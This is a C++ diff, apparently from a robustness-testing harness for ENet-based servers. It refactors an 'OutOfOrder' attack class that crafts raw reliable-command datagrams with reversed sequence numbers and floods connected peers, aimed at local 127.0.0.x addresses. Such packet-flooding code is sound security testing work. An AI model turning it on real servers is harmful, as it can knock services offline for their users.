@@ -99,20 +99,14 @@ class OutOfOrder : public RepeatingAttack {
     if (sayHello_) endpoint_.SayHello();
     endpoint_.WithHost([this](ENetHost& host, const std::vector<ENetPeer*>& up) {
       for (ENetPeer* peer : up) {
-        std::vector<uint8_t> datagram = DatagramHeader(peer->outgoingPeerID, peer->outgoingSessionID);
-        for (int i = 0; i < kCommands; ++i) {
-          ENetProtocolSendReliable command;
-          command.header.command = static_cast<enet_uint8>(ENET_PROTOCOL_COMMAND_SEND_RELIABLE) | ENET_PROTOCOL_COMMAND_FLAG_ACKNOWLEDGE;
-          command.header.channelID = static_cast<enet_uint8>(i % qxrnet::kEnetChannels);
-          const int downwards = (next_ + i / qxrnet::kEnetChannels) % (kTop - 2);
-          command.header.reliableSequenceNumber = ENET_HOST_TO_NET_16(static_cast<enet_uint16>(kTop - downwards));
-          command.dataLength = 0;
-          Append(datagram, command);
+        std::vector<uint8_t> datagram;
+        for (int channel = 0; channel < qxrnet::kEnetChannels; ++channel) {
+          std::vector<int> downwards;
+          for (int i = 0; i < kCommands / qxrnet::kEnetChannels; ++i) downwards.push_back(kTop - (next_ + i) % (kTop - 2));
+          const std::vector<uint8_t> commands = ReliableCommands(*peer, channel, downwards);
+          datagram.insert(datagram.end(), commands.begin() + (datagram.empty() ? 0 : sizeof(ENetProtocolHeader)), commands.end());
         }
-        ENetBuffer buffer;
-        buffer.data = datagram.data();
-        buffer.dataLength = datagram.size();
-        enet_socket_send(host.socket, &peer->address, &buffer, 1);
+        SendDatagram(host, *peer, datagram);
       }
     });
     next_ += kCommands / qxrnet::kEnetChannels;
@@ -277,6 +271,28 @@ void RepeatingAttack::Stop() {
 }
 
 std::string AttackerAddress(int last) { return "127.0.0." + std::to_string(last); }
+
+std::vector<uint8_t> ReliableCommands(const ENetPeer& peer, int channel, const std::vector<int>& sequenceNumbers,
+                                      const std::vector<uint8_t>& data) {
+  std::vector<uint8_t> datagram = DatagramHeader(peer.outgoingPeerID, peer.outgoingSessionID);
+  for (int sequenceNumber : sequenceNumbers) {
+    ENetProtocolSendReliable command;
+    command.header.command = static_cast<enet_uint8>(ENET_PROTOCOL_COMMAND_SEND_RELIABLE) | ENET_PROTOCOL_COMMAND_FLAG_ACKNOWLEDGE;
+    command.header.channelID = static_cast<enet_uint8>(channel);
+    command.header.reliableSequenceNumber = ENET_HOST_TO_NET_16(static_cast<enet_uint16>(sequenceNumber));
+    command.dataLength = ENET_HOST_TO_NET_16(static_cast<enet_uint16>(data.size()));
+    Append(datagram, command);
+    datagram.insert(datagram.end(), data.begin(), data.end());
+  }
+  return datagram;
+}
+
+void SendDatagram(ENetHost& host, const ENetPeer& peer, const std::vector<uint8_t>& datagram) {
+  ENetBuffer buffer;
+  buffer.data = const_cast<uint8_t*>(datagram.data());
+  buffer.dataLength = datagram.size();
+  enet_socket_send(host.socket, &peer.address, &buffer, 1);
+}
 
 std::unique_ptr<Attack> OutOfOrderCommands(int port, int datagramsPerSecond, bool sayHello) {
   return std::make_unique<OutOfOrder>(port, datagramsPerSecond, sayHello);
